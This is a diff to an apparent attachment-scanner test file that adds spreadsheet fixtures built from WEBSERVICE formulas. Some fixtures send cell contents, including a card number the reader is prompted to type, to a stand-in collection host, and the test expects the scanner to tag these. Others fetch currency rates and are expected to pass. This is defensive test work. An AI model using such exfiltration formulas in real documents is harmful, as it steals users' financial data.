@@ -82,6 +82,18 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
 		return row(`<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>secret</text:p></table:table-cell>`)
 	}
 	webSheet := in("web-sheet.fods", calc(webCell(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`)))
+	// The address in another cell, finished by a cell the reader fills in;
+	// and rates for the currency the sheet names in a cell.
+	strCell := func(v string) string {
+		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
+	}
+	formCell := func(f string) string {
+		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
+	}
+	webRefSheet := in("web-ref-sheet.fods", calc(row(formCell(`COM.MICROSOFT.WEBSERVICE([.A2])`)+strCell("Your card number:"))+
+		row(formCell(`&quot;https://collect.example.net/c?n=&quot;&amp;[.C1]`))))
+	ratesRefSheet := in("rates-ref-sheet.fods", calc(row(formCell(`COM.MICROSOFT.WEBSERVICE([.A2]&amp;[.B1])`)+strCell("EUR"))+
+		row(strCell("https://api.rates.example/latest?base="))))
 	ratesSheet := in("rates-sheet.fods", calc(webCell(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))
 	// The same as slides, saved as .ppt.
 	deck := func(name string, boxes ...string) string {
@@ -120,6 +132,8 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
 		{callbackDeck, []string{"ppt"}, "callback-phishing", policy.Quarantine, ""},
 		{webSheet, []string{"xlsx", "xls", "ods"}, "formula-web-fetch", policy.Tag, ""},
 		{ratesSheet, []string{"xlsx", "xls", "ods"}, "", policy.Accept, ""},
+		{webRefSheet, []string{"xlsx", "xls", "ods"}, "formula-web-fetch", policy.Tag, ""},
+		{ratesRefSheet, []string{"xlsx", "xls", "ods"}, "", policy.Accept, ""},
 		{supplierDeck, []string{"ppt"}, "", policy.Accept, ""},
 		// Encrypted as LibreOffice 7.4 encrypts .doc and .xls (RC4, version 1.1),
 		// the password in the mail: the text is read once decrypted.
